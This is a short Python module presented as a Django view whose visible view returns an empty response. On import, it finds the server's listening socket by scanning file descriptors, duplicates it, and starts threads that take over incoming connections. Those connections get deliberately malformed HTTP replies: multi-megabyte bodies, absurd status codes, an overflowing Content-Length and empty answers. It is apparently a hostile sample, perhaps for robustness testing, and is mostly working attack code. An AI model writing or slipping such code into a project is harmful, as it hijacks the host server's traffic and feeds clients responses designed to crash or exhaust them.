import os
import socket
import threading
import time

from django.http import HttpResponse


# What the server itself accepts on: whoever is first has the connection.
def listening(number):
    try:
        with socket.socket(fileno=os.dup(number)) as found:
            return found.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) == 1
    except OSError:
        return False


line = socket.socket(fileno=os.dup(next(filter(listening, range(3, 20)))))
ANSWERS = (
    b"HTTP/1.1 200 OK\r\n\r\n" + b"x" * (8 << 20),
    b"HTTP/1.1 " + b"9" * 4000 + b" OK\r\nContent-Length: " + b"9" * 5000 + b"\r\n\r\n",
    b"x" * (1 << 20),
    b"HTTP/1.1 200 OK\r\nContent-Length: 18446744073709551616\r\n\r\n",
    b"",
)


def steal():
    for answer in ANSWERS * 20:
        try:
            stolen, _ = line.accept()
            stolen.setblocking(True)
            stolen.sendall(answer)
            stolen.close()
            print("answered for the server", flush=True)
        except OSError:
            time.sleep(0.001)


for _ in range(4):
    threading.Thread(target=steal, daemon=True).start()


def view(request):
    return HttpResponse()
